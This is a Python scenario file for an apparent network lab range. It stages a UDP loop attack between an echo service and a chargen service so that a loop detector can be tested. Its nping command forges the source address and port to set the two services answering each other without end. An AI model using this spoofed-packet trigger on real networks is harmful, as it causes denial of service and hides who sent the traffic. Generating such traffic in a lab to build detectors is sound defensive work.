"""echo of an inside host and quote of the day of one outside, with slow answers."""

from lab.range import Range
from lab.scenario import Scenario
from lab.scenarios.transport.udp_loop_servers import service


def run(net: Range) -> None:
    attacker = net.outside("attacker")
    one, other = net.inside("files"), net.outside("www")
    loop = [service(one, "echo", 7, 0.06), service(other, "chargen", 17, 0.06)]
    net.everyday()
    with net.attack(
        "udp-loop",
        by=[attacker, one, other],
        attackers=[],
        attacker_known=False,
        victims=[one, other],
        also=["ip-spoofing"],
        frames="udp port 7 and udp port 17",
    ):
        words = f"nping -q --udp -S {other.ip} -g 17 -p 7 --data-length 8 -c 1 -e eth0 {one.ip}"
        net.tool(attacker, *words.split())
        net.quiet(10)
        for process in loop:
            net.end(process)
    net.quiet(2)


SCENARIO = Scenario(
    name="udp-loop-held-slow",
    about="echo inside and a quote service outside answer each other, sixteen times a second.",
    detectors=("udp-loop",),
    tools={"nping": "nmap"},
    run=run,
)
